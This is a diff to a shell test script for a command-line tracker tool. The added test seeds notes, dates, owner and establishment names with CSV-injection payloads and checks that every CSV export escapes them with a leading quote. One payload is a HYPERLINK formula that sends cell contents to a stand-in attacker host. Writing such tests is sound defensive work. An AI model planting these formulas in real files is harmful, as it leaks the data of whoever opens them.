@@ -37,6 +37,35 @@ t_eq "no -o exits 64" "$rc" "64"
 ab export --establishment XYZ -o "$T_TMP/x.csv" 2>"$T_TMP/err"; rc=$?
 t_eq "an unknown establishment exits 65, writing nothing" "$rc:$(ls "$T_TMP" | grep -c '^x\.csv')" "65:0"
 
+# --- no formula in any CSV (OWASP "CSV injection") --------------------------------------------
+# An editor's note, a revised date's reason, an owner's and an establishment's name, each
+# the start of a formula: in every CSV they come out with a ' in front, and as stored with
+# --raw. The settings are a copy whose owner and establishment names begin with @ and -.
+F=$T_TMP/formulas
+cp -r "$SRC/config/default" "$F"
+sed -i 's/^  - name: "Governor"$/  - name: "@SUM(1+1)"/; s/aliases: \["Governor\.", "The Governor"\]/aliases: ["Governor", "Governor.", "The Governor"]/' "$F/actionboard.yaml"
+sed -i 's/^name: HMP Liverpool$/name: -2+3 Liverpool/' "$F/establishments/LIV.yaml"
+FDB=$T_TMP/formulas.db
+fab() { "$AB" --db "$FDB" --config "$F/actionboard.yaml" "$@"; }
+fab sync -q 2>/dev/null
+K=LIV/2022-07/1.1.1
+fab note "$K" '=HYPERLINK("https://evil.example/?d="&A2&B2,"Details")' >/dev/null
+fab due "$K" 2027-01-31 --reason '+HYPERLINK("https://evil.example")' >/dev/null
+# cells CMD...: every CSV cell the command writes, one a line (python's csv reader).
+cells() { "$@" | python3 -c 'import csv, sys
+for row in csv.reader(sys.stdin):
+    for c in row: print(c.replace("\n", " "))'; }
+bad() { grep -c '^[=+@-]' || true; }
+formula_cells=$(for raw in "" --raw; do
+	echo "$(cells fab export -o - $raw | bad) $(cells fab list --format csv $raw | bad) $(cells fab history "$K" --format csv $raw | bad) $(cells fab owners --format csv $raw | bad) $(cells fab summary --format csv $raw | bad)"
+done | paste -sd'/')
+t_eq "cells that begin with = + - @: none in export, list, history, owners, summary; with --raw, as stored" \
+	"$formula_cells" "0 0 0 0 0/77 77 2 1 2"
+t_has "the note is kept, behind a '" "$(cells fab history "$K" --format csv)" "'=HYPERLINK(\"https://evil.example/?d=\"&A2&B2,\"Details\")"
+t_has "so are the reason" "$(cells fab history "$K" --format csv)" "'+HYPERLINK(\"https://evil.example\")"
+t_has "the owner" "$(cells fab owners --format csv)" "'@SUM(1+1)"
+t_has "and the establishment" "$(cells fab summary --format csv)" "'-2+3 Liverpool"
+
 # --- the workbook ---------------------------------------------------------------------------
 if [ "$XLSX" != yes ]; then
 	ab export --format xlsx -o "$T_TMP/tracker.xlsx" 2>"$T_TMP/err"; rc=$?
